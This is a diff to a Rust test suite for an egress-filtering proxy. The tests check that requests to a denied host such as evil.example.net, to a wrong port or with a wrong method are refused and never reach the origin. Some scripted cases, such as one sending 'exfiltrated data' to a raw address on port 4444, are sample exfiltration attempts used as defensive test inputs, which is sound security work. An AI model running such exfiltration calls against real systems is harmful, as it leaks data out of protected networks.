@@ -3,13 +3,25 @@
 use std::net::SocketAddr;
 
 use gig_policy::DenyReason;
-use gig_tests::lab::{Lab, Way, denial::Refusal, http_origin::greet, network::internet_address};
+use gig_tests::lab::{
+    Finished, Lab, Way, denial::Refusal, http_origin::greet, network::internet_address,
+};
 
 const ALLOWED: &str = "api.example.com";
 const DENIED: &str = "evil.example.net";
 
-fn forbidden(run: &gig_tests::lab::Finished) -> bool {
+fn forbidden(run: &Finished) -> bool {
     run.text().contains("403")
+}
+
+/// curl found no address.
+fn unresolved(run: &Finished) -> bool {
+    run.status == 6
+}
+
+/// The connection was reset, and nothing had been said on it.
+fn cut_off(run: &Finished) -> bool {
+    run.text().contains("ConnectionResetError")
 }
 
 #[test]
@@ -24,10 +36,10 @@ fn denied_host_over_https_by_proxy_never_reaches_origin() {
         "-v",
         "https://evil.example.net/",
     ]);
-    let client = |run: &gig_tests::lab::Finished| run.error_text().contains("403");
     Refusal::new(DenyReason::HostNotAllowed)
         .of(DENIED)
-        .client(client)
+        .client(|run| run.error_text().contains("403"))
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -37,11 +49,11 @@ fn denied_name_does_not_resolve() {
     let _origin = lab.https(DENIED, greet);
     let run = lab.gig().allow(ALLOWED).going(Way::Straight);
     let run = run.run(["curl", "-sS", "-m", "20", "https://evil.example.net/"]);
-    let client = |run: &gig_tests::lab::Finished| run.status == 6;
     Refusal::new(DenyReason::HostNotAllowed)
         .of(DENIED)
         .repeatedly()
-        .client(client)
+        .client(unresolved)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -57,7 +69,10 @@ fn nothing_is_allowed_without_a_policy() {
         "https://evil.example.net/",
     ]);
     Refusal::new(DenyReason::HostNotAllowed)
+        .of(DENIED)
         .repeatedly()
+        .client(unresolved)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -69,7 +84,7 @@ fn denied_host_over_http_is_answered_403() {
         lab.gig()
             .allow(ALLOWED)
             .run(["curl", "-sS", "-m", "20", "-i", "http://evil.example.net/"]);
-    let client = |run: &gig_tests::lab::Finished| {
+    let client = |run: &Finished| {
         let text = run.text();
         text.contains("403")
             && text.contains("egress_denied")
@@ -79,6 +94,7 @@ fn denied_host_over_http_is_answered_403() {
     Refusal::new(DenyReason::HostNotAllowed)
         .of(DENIED)
         .client(client)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -99,7 +115,11 @@ fn denied_name_in_sni_towards_a_raw_address_is_explained_in_http() {
         "https://evil.example.net/",
     ]);
     let refusal = Refusal::new(DenyReason::HostNotAllowed).or(DenyReason::IpNotAllowed);
-    refusal.client(forbidden).check(&run);
+    refusal
+        .client(forbidden)
+        .unseen_by(&origin)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
@@ -109,18 +129,23 @@ fn denied_port_of_an_allowed_host_is_refused() {
     let at = SocketAddr::new(address, 8443);
     let origin = lab.tls(at, &[ALLOWED], &[], |conversation| conversation.drain());
     let script = "s, status = tunnel('api.example.com:8443'); print(status)\n\
-        attempt(lambda: tls('api.example.com', 8443).sendall(get('/', 'api.example.com')))";
+        s = tls('api.example.com', 8443); s.sendall(get('/', 'api.example.com')); print(until(s, '\\r\\n\\r\\n'))";
     let run = lab.gig().allow(ALLOWED).wire(script);
     let refusal = Refusal::new(DenyReason::PortNotAllowed)
         .of(ALLOWED)
         .repeatedly();
-    refusal.unseen_by(&origin).client(forbidden).check(&run);
+    let twice = |run: &Finished| run.text().matches("HTTP/1.1 403").count() == 2;
+    refusal
+        .unseen_by(&origin)
+        .nothing_leaves()
+        .client(twice)
+        .check(&run);
 }
 
 #[test]
 fn denied_method_never_reaches_origin() {
     let lab = Lab::new();
-    let _origin = lab.https(ALLOWED, greet);
+    let origin = lab.https(ALLOWED, greet);
     let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
         rules: [{methods: [GET]}]\n";
     for version in ["--http1.1", "--http2"] {
@@ -132,14 +157,10 @@ fn denied_method_never_reaches_origin() {
         let refusal = Refusal::new(DenyReason::MethodNotAllowed).of(ALLOWED);
         refusal
             .client(forbidden)
-            .beside_allowed_traffic()
+            .unseen_by(&origin)
+            .nothing_leaves()
             .check(&run);
     }
-    assert!(
-        _origin.requests().is_empty(),
-        "ESCAPED: {:?}",
-        _origin.requests()
-    );
 }
 
 #[test]
@@ -148,15 +169,14 @@ fn method_names_are_compared_exactly() {
     let origin = lab.https(ALLOWED, greet);
     let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
         rules: [{methods: [GET]}]\n";
-    let script = "s = tls('api.example.com'); s.sendall(get('/', 'api.example.com', method='get')); print(rest(s))";
+    let script = "s = tls('api.example.com'); s.sendall(get('/', 'api.example.com', method='get')); print(until(s, '\\r\\n\\r\\n'))";
     let run = lab.gig().policy(policy).wire(script);
-    assert!(
-        origin.requests().is_empty(),
-        "ESCAPED: {:?}",
-        origin.requests()
-    );
-    let refusal = Refusal::new(DenyReason::MethodNotAllowed).or(DenyReason::MalformedRequest);
-    refusal.beside_allowed_traffic().check(&run);
+    Refusal::new(DenyReason::MethodNotAllowed)
+        .of(ALLOWED)
+        .client(forbidden)
+        .unseen_by(&origin)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
@@ -171,11 +191,10 @@ fn raw_address_without_a_rule_is_refused() {
         .gig()
         .allow(ALLOWED)
         .run(["curl", "-sS", "-k", "-m", "20", "-v", &url]);
-    let client =
-        |run: &gig_tests::lab::Finished| run.status != 0 && run.error_text().contains("403");
     Refusal::new(DenyReason::IpNotAllowed)
         .unseen_by(&origin)
-        .client(client)
+        .nothing_leaves()
+        .client(|run| run.status != 0 && run.error_text().contains("403"))
         .check(&run);
 }
 
@@ -185,10 +204,14 @@ fn raw_address_with_plain_bytes_is_reset() {
     let at = SocketAddr::new(internet_address(200), 4444);
     let origin = lab.tcp(at, |conversation| conversation.drain());
     let script = "def go():\n s = connect('11.0.1.200', 4444); s.sendall(b'exfiltrated data\\n'); \
-        return repr(rest(s))\nattempt(go)";
+        return ending(s)\nattempt(go)";
     let run = lab.gig().allow(ALLOWED).wire(script);
     let refusal = Refusal::new(DenyReason::IpNotAllowed).or(DenyReason::PortNotAllowed);
-    refusal.unseen_by(&origin).check(&run);
+    refusal
+        .client(cut_off)
+        .unseen_by(&origin)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
@@ -199,12 +222,13 @@ fn opaque_bytes_towards_an_http_rule_are_refused() {
         conversation.drain()
     });
     let script = "def go():\n s = connect('api.example.com', 443); s.sendall(b'\\x00\\x01not http at all\\n'); \
-        return repr(rest(s))\nattempt(go)";
+        return ending(s)\nattempt(go)";
     let run = lab.gig().allow(ALLOWED).wire(script);
-    let refusal = Refusal::new(DenyReason::ProtocolNotAllowed).or(DenyReason::UnsupportedProtocol);
-    refusal
-        .or(DenyReason::MalformedRequest)
+    Refusal::new(DenyReason::UnsupportedProtocol)
+        .of(ALLOWED)
+        .client(cut_off)
         .unseen_by(&origin)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -217,6 +241,8 @@ fn wildcard_does_not_cover_the_apex() {
     Refusal::new(DenyReason::HostNotAllowed)
         .of("example.org")
         .repeatedly()
+        .client(unresolved)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -234,6 +260,9 @@ fn redirect_to_a_denied_host_is_not_followed_out() {
         let refusal = Refusal::new(DenyReason::HostNotAllowed)
             .of(DENIED)
             .repeatedly();
-        refusal.unseen_by(to.raw()).check(&run);
+        refusal
+            .client(|run| unresolved(run) || run.error_text().contains("response 403"))
+            .unseen_by(&to)
+            .check(&run);
     }
 }
